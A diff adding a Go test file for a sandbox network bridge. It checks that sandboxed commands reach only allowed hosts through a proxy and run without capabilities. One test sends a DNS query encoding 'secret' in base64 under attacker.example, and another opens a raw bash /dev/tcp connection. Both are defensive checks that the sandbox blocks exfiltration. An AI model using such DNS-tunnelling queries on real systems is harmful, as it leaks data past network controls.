@@ -0,0 +1,240 @@
+package sandbox
+
+import (
+	"bufio"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/eddmann/buns/internal/proxy"
+)
+
+// echoServer listens on a Unix socket and echoes each line back, prefixed
+func echoServer(t *testing.T) string {
+	t.Helper()
+	// Unix socket paths are limited to around 100 bytes
+	dir, err := os.MkdirTemp("", "buns-bridge")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = os.RemoveAll(dir) })
+
+	socketPath := filepath.Join(dir, "proxy.sock")
+	ln, err := net.Listen("unix", socketPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = ln.Close() })
+
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer func() { _ = conn.Close() }()
+				line, _ := bufio.NewReader(conn).ReadString('\n')
+				_, _ = conn.Write([]byte("echo: " + line))
+			}()
+		}
+	}()
+	return socketPath
+}
+
+func TestBridgeArgs(t *testing.T) {
+	got := BridgeArgs("/usr/bin/buns", "/tmp/proxy.sock", []int{80, 443}, []string{"bun", "run", "script.ts"})
+	want := []string{"/usr/bin/buns", BridgeHelper, "/tmp/proxy.sock", "80,443", "--", "bun", "run", "script.ts"}
+	if !slices.Equal(got, want) {
+		t.Errorf("BridgeArgs() = %v, want %v", got, want)
+	}
+}
+
+func TestBridgeEnv(t *testing.T) {
+	env := bridgeEnv([]string{"PATH=/usr/bin", "HTTP_PROXY=http://127.0.0.1:8080", "all_proxy=socks5://127.0.0.1:1080"})
+	want := append([]string{"PATH=/usr/bin"}, ProxyEnvVars()...)
+	if !slices.Equal(env, want) {
+		t.Errorf("bridgeEnv() = %v, want %v", env, want)
+	}
+}
+
+func TestNameServers(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "resolv.conf")
+	conf := "# Generated\nnameserver 10.0.0.2\nsearch example.com\nnameserver fd00::53\nnameserver 127.0.0.1\nnameserver bogus\n"
+	if err := os.WriteFile(path, []byte(conf), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	want := []string{"127.0.0.1", "10.0.0.2", "fd00::53"}
+	if got := nameServers(path); !slices.Equal(got, want) {
+		t.Errorf("nameServers() = %v, want %v", got, want)
+	}
+	if got := nameServers(filepath.Join(t.TempDir(), "missing")); !slices.Equal(got, []string{"127.0.0.1"}) {
+		t.Errorf("nameServers() without resolv.conf = %v", got)
+	}
+}
+
+func TestServeBridge(t *testing.T) {
+	socketPath := echoServer(t)
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = ln.Close() }()
+	go serveBridge(ln, socketPath)
+
+	for i := 0; i < 2; i++ {
+		conn, err := net.Dial("tcp", ln.Addr().String())
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, _ = conn.Write([]byte("hello\n"))
+		got, err := bufio.NewReader(conn).ReadString('\n')
+		_ = conn.Close()
+		if err != nil || got != "echo: hello\n" {
+			t.Errorf("relayed %q, %v", got, err)
+		}
+	}
+}
+
+// runBridged runs command under the bridge helper in new user and network
+// namespaces, as the unshare sandbox does. It returns the command's output
+// and exit code, or the setup error the helper reported.
+func runBridged(t *testing.T, socketPath string, ports []int, command ...string) (string, int, error) {
+	t.Helper()
+	args := BridgeArgs(os.Args[0], socketPath, ports, command)
+	cmd := exec.Command(args[0], args[1:]...)
+	isolateNetwork(cmd)
+	var stdout strings.Builder
+	cmd.Stdout = &stdout
+	setupErr, err := setupErrorPipe(cmd)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	err = cmd.Run()
+	if err := setupErr(); err != nil {
+		return "", 0, err
+	}
+	var exitErr *exec.ExitError
+	if err != nil && !errors.As(err, &exitErr) {
+		t.Fatal(err)
+	}
+	return stdout.String(), cmd.ProcessState.ExitCode(), nil
+}
+
+func TestRunBridgeHelper(t *testing.T) {
+	if probeUserNamespaces() != nil {
+		t.Skip("user namespaces aren't available")
+	}
+	socketPath := echoServer(t)
+
+	t.Run("relays to the proxy", func(t *testing.T) {
+		python, err := exec.LookPath("python3")
+		if err != nil {
+			t.Skip("python3 isn't installed")
+		}
+		stdout, code, err := runBridged(t, socketPath, nil, python, "-c", `
+import socket
+s = socket.create_connection(("127.0.0.1", 19850))
+s.sendall(b"hello\n")
+print(s.recv(100).decode(), end="")`)
+		if err != nil || code != 0 {
+			t.Fatalf("exit code = %d, error = %v", code, err)
+		}
+		if stdout != "echo: hello\n" {
+			t.Errorf("stdout = %q", stdout)
+		}
+	})
+
+	t.Run("intercepts connections to any address", func(t *testing.T) {
+		upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			_, _ = io.WriteString(w, "hello from "+r.Host)
+		}))
+		defer upstream.Close()
+		port := upstream.Listener.Addr().(*net.TCPAddr).Port
+
+		mgr, err := proxy.NewManager(proxy.ManagerConfig{AllowedHosts: []string{"127.0.0.1"}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer mgr.Stop()
+
+		// The script asks an address it can't otherwise reach for a host the
+		// proxy allows
+		script := fmt.Sprintf(`exec 3<>/dev/tcp/198.51.100.7/%d && printf 'GET / HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n' >&3 && cat <&3`, port)
+		stdout, code, err := runBridged(t, mgr.SocketPath(), []int{port}, "/bin/bash", "-c", script)
+		if err != nil || code != 0 {
+			t.Fatalf("exit code = %d, error = %v", code, err)
+		}
+		if !strings.HasSuffix(stdout, "hello from 127.0.0.1") {
+			t.Errorf("stdout = %q", stdout)
+		}
+	})
+
+	t.Run("answers DNS for allowed names", func(t *testing.T) {
+		python, err := exec.LookPath("python3")
+		if err != nil {
+			t.Skip("python3 isn't installed")
+		}
+		mgr, err := proxy.NewManager(proxy.ManagerConfig{AllowedHosts: []string{"localhost"}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer mgr.Stop()
+
+		// Prints the rcode of an A query and the last address answered
+		stdout, code, err := runBridged(t, mgr.SocketPath(), nil, python, "-c", `
+import socket, struct
+def query(name):
+    q = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(q, ("127.0.0.1", 53))
+    r = s.recv(512)
+    print(r[3] & 15, socket.inet_ntoa(r[-4:]) if r[7] else "-")
+query("localhost")
+query("c2VjcmV0.attacker.example")`)
+		if err != nil || code != 0 {
+			t.Fatalf("exit code = %d, error = %v", code, err)
+		}
+		if stdout != "0 127.0.0.1\n3 -\n" {
+			t.Errorf("stdout = %q", stdout)
+		}
+	})
+
+	t.Run("the command gets no capabilities", func(t *testing.T) {
+		stdout, code, err := runBridged(t, socketPath, nil, "grep", "-E", "^Cap(Eff|Amb)", "/proc/self/status")
+		if err != nil || code != 0 {
+			t.Fatalf("exit code = %d, error = %v", code, err)
+		}
+		for _, line := range strings.Split(strings.TrimSpace(stdout), "\n") {
+			if name, value, _ := strings.Cut(line, ":"); strings.TrimSpace(value) != "0000000000000000" {
+				t.Errorf("%s = %s, want none", name, strings.TrimSpace(value))
+			}
+		}
+	})
+
+	t.Run("exits as the command does", func(t *testing.T) {
+		if _, code, err := runBridged(t, socketPath, nil, "sh", "-c", "exit 7"); err != nil || code != 7 {
+			t.Errorf("exit code = %d, error = %v", code, err)
+		}
+	})
+
+	t.Run("setup errors are reported", func(t *testing.T) {
+		_, _, err := runBridged(t, socketPath, nil, "/nonexistent/bun")
+		if err == nil || !strings.Contains(err.Error(), "/nonexistent/bun") {
+			t.Errorf("error = %v, want one naming the command", err)
+		}
+	})
+}